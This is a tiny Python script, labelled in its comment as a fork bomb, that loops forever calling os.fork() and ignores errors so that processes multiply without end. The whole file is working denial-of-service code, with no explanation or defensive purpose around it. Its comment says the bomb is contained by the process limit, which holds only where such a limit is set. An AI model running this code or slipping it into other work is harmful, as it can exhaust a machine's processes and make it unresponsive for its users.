# Python fork bomb: every process forks forever; contained by the process limit, no survivor.
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
